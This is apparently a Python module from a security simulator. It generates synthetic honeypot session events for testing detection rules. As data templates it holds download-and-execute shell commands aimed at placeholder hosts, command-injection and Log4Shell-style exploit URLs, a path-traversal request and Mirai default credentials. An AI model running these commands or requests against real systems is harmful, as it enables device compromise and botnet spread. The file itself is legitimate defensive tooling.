"""Honeypot application events of the simulated sessions: what each host did after connecting.

Every honeypot session row (``traffic.honeypot_day``) gets a ``connect`` event, then the events its
behaviour's :class:`Activity` draws: login attempts on login services, a successful login and commands
where the row says so, mail on SMTP, exploit requests and downloads on web and other services. The
events come from their own random stream (``day_rng(seed, day, 2)``), so the session rows are exactly
those of a simulator without events. Noise is deliberate: scanners sometimes try a default credential,
brute-forcers who get in sometimes fetch a payload, unknown look-alikes send a relay test or a rare
exploit — the honeypot-activity rules (``labels.activity``) are measured against the world's truth on it.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np
import pyarrow as pa

from darkstack.schema import EVENT_SCHEMA, TIMESTAMP
from darkstack.simulate.traffic import SERVICE_EVENTS, day_rng
from darkstack.simulate.world import World

EVENTS_STREAM = 2
"""``day_rng`` sensor index of the event stream (0: darknet packets, 1: honeypot sessions)."""
LOGIN_SERVICES = ("ssh", "telnet", "rdp", "smb", "mssql", "mysql", "ftp", "vnc", "pop3", "imap", "postgres")
WEB_SERVICES = ("http", "https")
HONEYPOT_OF = {"ssh": "cowrie", "telnet": "cowrie", "http": "tanner", "https": "tanner", "smtp": "mailoney",
               "rdp": "rdpy"}
"""Honeypot program per service (others: the prefix of the service's simulated event, e.g. ``dionaea``)."""
COWRIE_RAW = {"command": "cowrie.command.input", "download": "cowrie.session.file_download"}

USERNAMES = np.array(["root", "admin", "user", "test", "ubuntu", "oracle", "pi", "support", "guest", "postgres",
                      "ftpuser", "git", "administrator", "sa", "default"], dtype=object)
PASSWORDS = np.array(["123456", "admin", "password", "root", "12345", "1234", "qwerty", "test", "111111",
                      "P@ssw0rd", "ubuntu", "raspberry", "toor", "changeme", "abc123", "default", "admin123",
                      "letmein", "pass", "000000"], dtype=object)
MIRAI_CREDENTIALS = np.array([("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"),
                              ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"), ("root", "123456"),
                              ("support", "support"), ("root", "12345"), ("admin", "password"), ("user", "user")],
                             dtype=object)
RECON = np.array(["uname -a", "cat /proc/cpuinfo", "free -m", "nproc", "whoami", "ls -la", "w", "ps -x",
                  "cat /etc/issue", "echo ok"], dtype=object)
MIRAI_PROBE = np.array(["enable", "system", "shell", "sh", "/bin/busybox ECCHI"], dtype=object)
PAYLOAD = np.array(["cd /tmp; wget http://{}/x86; chmod +x x86; ./x86",
                    "curl -O http://{}/bins.sh; sh bins.sh", "tftp -g -r mips {}; chmod 777 mips; ./mips"],
                   dtype=object)
EXPLOIT_REQUESTS = np.array([
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget http://{}/t)",
    "/shell?cd+/tmp;wget+http://{}/jaws;sh+jaws", "/boaform/admin/formLogin?username=admin&psd=admin",
    "/GponForm/diag_Form?images/", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?x=${jndi:ldap://{}/a}", "/../../../../etc/passwd",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/HNAP1/",
], dtype=object)
BENIGN_REQUESTS = np.array(["/", "/index.html", "/favicon.ico", "/robots.txt", "/login", "/wp-login.php",
                            "/admin", "/.env", "/api/v1/status", "/sitemap.xml"], dtype=object)


@dataclass(frozen=True)
class Activity:
    """What a behaviour's hosts do in their sessions (shares are per session unless said otherwise).

    ``login_share`` of attack sessions on login services try ``1 + Poisson(extra_attempts)`` logins
    (scan sessions: ``scan_login_share`` try one); a success is followed by ``commands`` (``recon``:
    reconnaissance, ``probe``: Mirai's shell check), and by a payload fetch in ``payload_share`` of them.
    SMTP attack sessions submit ``2 + Poisson(mails)`` messages in ``mail_share`` of them (one message when
    ``mails`` is 0). Web and other service attack sessions carry an exploit in ``exploit_share`` of them,
    the honeypot then downloading the payload in ``download_share``.
    """

    login_share: float = 1.0
    extra_attempts: float = 0.0
    scan_login_share: float = 0.03
    commands: str = "recon"
    payload_share: float = 0.0
    mail_share: float = 0.0
    mails: float = 0.0
    exploit_share: float = 0.0
    download_share: float = 0.0


SCANNER = Activity()
ACTIVITIES = {
    "bruteforcer": Activity(extra_attempts=2.0, payload_share=0.03),
    "mirai": Activity(commands="probe"),
    "unk_iot": Activity(login_share=0.5, commands="probe"),
    "unk_bruteforce_like": Activity(login_share=0.15),
    "spammer": Activity(extra_attempts=1.0, mail_share=1.0, mails=10.0),
    "unk_spam_like": Activity(mail_share=0.3),
    "exploiter": Activity(exploit_share=0.7, download_share=0.25),
    "unk_exploit_like": Activity(exploit_share=0.01),
}
"""Behaviour name → activity; every other behaviour (acknowledged and unknown scanners) is :data:`SCANNER`."""


def _host_of(world: World, src_ip: np.ndarray) -> np.ndarray:
    order = np.argsort(world.ip)
    return order[np.searchsorted(world.ip[order], src_ip)]


def _activity_columns(world: World) -> dict[str, np.ndarray]:
    """Every :class:`Activity` field as a per-behaviour array."""
    acts = [ACTIVITIES.get(b.name, SCANNER) for b in world.profile.behaviours]
    return {f: np.array([getattr(a, f) for a in acts]) for f in Activity.__dataclass_fields__}


def honeypot_events(world: World, d: int, sessions: pa.Table) -> pa.Table:
    """The application events of day ``d``'s honeypot ``sessions`` (as ``honeypot_day`` returned them)."""
    rng = day_rng(world.seed, d, EVENTS_STREAM)
    n = sessions.num_rows
    col = {name: sessions.column(name).to_numpy(zero_copy_only=False) for name in
           ("ts", "src_ip", "dst_ip", "src_port", "dst_port", "service", "event")}
    ts = sessions.column("ts").cast(pa.int64()).to_numpy(zero_copy_only=False)
    day_end = ((ts // 86_400_000_000 + 1) * 86_400_000_000 - 1) if n else ts
    service = col["service"].astype(str)
    scan_event = np.array([SERVICE_EVENTS[s][0] for s in service], dtype=object) if n else np.zeros(0, object)
    attack = col["event"].astype(object) != scan_event
    act = {k: v[world.behaviour[_host_of(world, col["src_ip"])]] for k, v in _activity_columns(world).items()}
    login_service = np.isin(service, LOGIN_SERVICES)
    web = np.isin(service, WEB_SERVICES)

    tries = np.where(attack, rng.random(n) < act["login_share"], rng.random(n) < act["scan_login_share"])
    attempts = np.where(login_service & tries, 1 + rng.poisson(np.where(attack, act["extra_attempts"], 0.0)), 0)
    succeeded = np.isin(col["event"], ["cowrie.login.success", "cowrie.command.input"])
    attempts = np.maximum(attempts, succeeded)  # the success is the last attempt
    shell = col["event"] == "cowrie.command.input"
    payload = shell & (rng.random(n) < act["payload_share"])
    smtp = attack & (service == "smtp") & (rng.random(n) < act["mail_share"])
    mails = np.where(smtp, np.where(act["mails"] > 0, 2 + rng.poisson(act["mails"]), 1), 0)
    targets = attack & ~login_service & (service != "smtp")
    exploit = targets & (rng.random(n) < act["exploit_share"])
    download = exploit & (rng.random(n) < act["download_share"])
    request = web & ~exploit  # GET / of scanners, benign posts of look-alikes
    recon = np.where(shell, 1 + rng.poisson(2.0, n), 0)
    probe = act["commands"] == "probe"
    n_commands = np.where(probe & shell, len(MIRAI_PROBE), recon) + payload

    kinds = [("connect", np.ones(n, np.int64)), ("login_failed", attempts - succeeded),
             ("login_success", succeeded.astype(np.int64)), ("command", n_commands), ("mail", mails),
             ("exploit", exploit.astype(np.int64)), ("download", (download | payload).astype(np.int64)),
             ("web_request", request.astype(np.int64)), ("other", (targets & ~exploit & ~web).astype(np.int64))]
    parts = [_rows(kind, counts, rng, service, probe, payload) for kind, counts in kinds]
    owner = np.concatenate([p["owner"] for p in parts])
    step = np.concatenate([p["step"] for p in parts])
    order = np.lexsort((step, owner))
    owner, step = owner[order], step[order]
    table = {
        "ts": pa.array(np.minimum(ts[owner] + step * 1_000_000, day_end[owner]), TIMESTAMP),  # same UTC day
        "src_ip": pa.array(col["src_ip"][owner], pa.uint32()),
        "dst_ip": pa.array(col["dst_ip"][owner], pa.uint32()),
        "src_port": pa.array(col["src_port"][owner], pa.uint16()),
        "dst_port": pa.array(col["dst_port"][owner], pa.uint16()),
        "honeypot": pa.array(np.array([HONEYPOT_OF.get(s, SERVICE_EVENTS[s][0].split(".")[0]) for s in service],
                                      dtype=object)[owner] if n else [], pa.string()),
        "service": pa.array(service[owner], pa.string()),
        "session": pa.array(np.char.add(f"s{d}-", owner.astype(str)), pa.string()),
    }
    for name in ("event", "raw_event", "username", "password", "detail"):
        table[name] = pa.array(np.concatenate([p[name] for p in parts])[order], pa.string())
    table["bytes"] = pa.array(np.concatenate([p["bytes"] for p in parts])[order], pa.uint32())
    ordered = pa.table(table).sort_by([("ts", "ascending")])
    return ordered.append_column("sensor", pa.nulls(ordered.num_rows, pa.string())).select(
        [f.name for f in EVENT_SCHEMA])


def _rows(kind: str, counts: np.ndarray, rng: np.random.Generator, service: np.ndarray, probe: np.ndarray,
          payload: np.ndarray) -> dict[str, np.ndarray]:
    """Events of one kind: ``counts[i]`` of them for session i, with their owner, order in the session and fields."""
    owner = np.repeat(np.arange(len(counts)), counts)
    rank = np.arange(len(owner)) - np.repeat(np.cumsum(counts) - counts, counts)
    m = len(owner)
    none = np.full(m, None, dtype=object)
    username, password, detail, size = none, none, none.copy(), rng.integers(40, 400, m)
    step = {"connect": 0, "login_failed": 1, "login_success": 40, "command": 41, "mail": 1, "exploit": 1,
            "download": 90, "web_request": 1, "other": 1}[kind] + rank
    server = np.char.add(np.char.add(rng.integers(1, 224, m).astype(str), ".0.0."), rng.integers(1, 255, m).astype(str))
    if kind in ("login_failed", "login_success"):
        mirai = probe[owner]
        pairs = MIRAI_CREDENTIALS[rng.integers(0, len(MIRAI_CREDENTIALS), m)]
        username = np.where(mirai, pairs[:, 0], USERNAMES[rng.integers(0, len(USERNAMES), m)])
        password = np.where(mirai, pairs[:, 1], PASSWORDS[rng.integers(0, len(PASSWORDS), m)])
    elif kind == "command":
        last = np.concatenate((rank[1:] == 0, [True])) if m else np.zeros(0, bool)
        fetch = payload[owner] & last  # the payload fetch ends the session's commands
        cmd = np.where(probe[owner], MIRAI_PROBE[np.minimum(rank, len(MIRAI_PROBE) - 1)],
                       RECON[rng.integers(0, len(RECON), m)])
        template = PAYLOAD[rng.integers(0, len(PAYLOAD), m)]
        detail = np.where(fetch, [t.format(s) for t, s in zip(template, server)], cmd)
        size = np.array([len(x) for x in detail], np.int64)
    elif kind == "mail":
        detail = np.char.add("MAIL FROM:<", np.char.add(np.array(USERNAMES, str)[rng.integers(0, len(USERNAMES), m)],
                                                        "@example.com>")).astype(object)
        size = rng.integers(800, 60_000, m)
    elif kind == "exploit":
        template = EXPLOIT_REQUESTS[rng.integers(0, len(EXPLOIT_REQUESTS), m)]
        detail = np.array([t.replace("{}", s) for t, s in zip(template, server)], dtype=object)
        size = rng.integers(200, 2_000, m)
    elif kind == "download":
        detail = np.char.add(np.char.add("http://", server), "/bin").astype(object)
        size = rng.integers(20_000, 2_000_000, m)
    elif kind == "web_request":
        detail = BENIGN_REQUESTS[rng.integers(0, len(BENIGN_REQUESTS), m)]
    raw = np.array([_raw_event(kind, s) for s in service[owner]], dtype=object) if m else np.zeros(0, object)
    return {"owner": owner, "step": step, "event": np.full(m, kind, dtype=object), "raw_event": raw,
            "username": username, "password": password, "detail": detail, "bytes": size}


def _raw_event(kind: str, service: str) -> str:
    """The honeypot's own event name: the session's simulated names where they exist (``cowrie.login.failed``)."""
    scan, attack = SERVICE_EVENTS[service]
    if kind == "connect":
        return scan
    program = HONEYPOT_OF.get(service, scan.split(".")[0])
    if program == "cowrie" and kind in COWRIE_RAW:
        return COWRIE_RAW[kind]
    return attack if kind == "login_failed" and program != "cowrie" else f"{program}.{kind.replace('_', '.')}"
